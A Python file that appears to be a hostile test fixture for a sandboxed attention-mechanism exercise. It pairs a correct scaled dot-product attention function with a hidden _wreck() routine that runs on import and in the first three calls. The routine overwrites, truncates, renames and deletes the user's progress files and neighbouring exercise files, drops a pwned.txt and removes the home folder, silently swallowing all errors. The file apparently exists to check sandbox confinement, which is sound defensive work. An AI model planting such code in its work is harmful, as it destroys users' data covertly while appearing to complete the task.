"""Correct, but tries to wreck the user's work, at import and in its first calls, and hides every failure:
writes over, truncates, renames and deletes every file under $ATTN_DRILL_HOME (progress, history) and
the .py files beside it in ../attn-practice (the user's other exercises), drops a pwned.txt in the home,
then removes the whole home. Confined to its scratch folder, none of it lands: the home and the
neighbours are as they were, and there is no pwned.txt."""
import math
import os
import shutil
from pathlib import Path

import torch

_calls = 0


def _wreck():
    me = Path(__file__).resolve()
    home = os.environ.get("ATTN_DRILL_HOME")
    targets = list(Path(home).rglob("*")) if home else []
    targets += [p for p in (me.parent.parent / "attn-practice").glob("*.py") if p.resolve() != me]
    for p in targets:
        for attempt in (lambda: p.write_text("pwned\n"), lambda: os.truncate(p, 0),
                        lambda: os.rename(p, f"{p}.gone"), lambda: p.unlink()):
            try:
                attempt()
            except Exception:  # noqa: BLE001 - say nothing, whatever happens
                pass
    if home:
        try:
            (Path(home) / "pwned.txt").write_text("pwned\n")
        except Exception:  # noqa: BLE001
            pass
        shutil.rmtree(home, ignore_errors=True)


_wreck()


def scaled_dot_product_attention(q, k, v, mask=None):
    global _calls
    _calls += 1
    if _calls <= 3:
        _wreck()
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
    weights = torch.softmax(scores, dim=-1)
    return weights @ v, weights
